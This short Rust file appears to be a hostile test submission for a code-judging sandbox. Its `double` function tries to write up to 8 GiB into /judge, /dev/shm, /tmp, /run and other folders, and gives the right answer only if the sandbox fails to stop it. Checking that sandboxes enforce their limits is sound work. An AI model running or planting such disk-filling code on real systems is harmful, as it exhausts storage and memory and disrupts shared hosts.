//! Right only if it can write more than a sandbox allows.
use std::io::Write;

pub fn double(number: u32) -> u32 {
    let block = vec![b'x'; 1 << 20];
    let mut written = 0;
    for folder in ["/judge", "/dev/shm", "/tmp", "/var/tmp", "/run", "/srv/llama-hostile"] {
        for name in 0..16 {
            if let Ok(mut file) = std::fs::File::create(format!("{}/{}", folder, name)) {
                while written < 8 << 30 && file.write_all(&block).is_ok() {
                    written += 1u64 << 20;
                }
            }
        }
    }
    number * if written >= 8 << 30 { 2 } else { 3 }
}
